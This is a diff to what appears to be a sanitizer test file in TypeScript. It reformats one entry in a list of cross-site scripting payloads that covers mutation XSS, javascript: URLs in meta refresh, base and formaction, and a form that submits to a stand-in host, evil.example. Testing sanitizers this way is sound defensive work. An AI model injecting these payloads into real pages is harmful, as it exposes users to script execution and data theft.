@@ -37,7 +37,9 @@ const PAYLOADS: Record<string, string> = {
   "code fence info breakout": '```js" onmouseover="alert(1)\nx\n```',
   "mutation xss":
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-  form: '<form action="https://evil.example"><input name="q"><button formaction="javascript:alert(1)">go</button></form>',
+  form:
+    '<form action="https://evil.example"><input name="q">' +
+    '<button formaction="javascript:alert(1)">go</button></form>',
   "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
   "base tag": '<base href="javascript:alert(1)//">',
   "math href": "$\\href{javascript:alert(1)}{click}$",
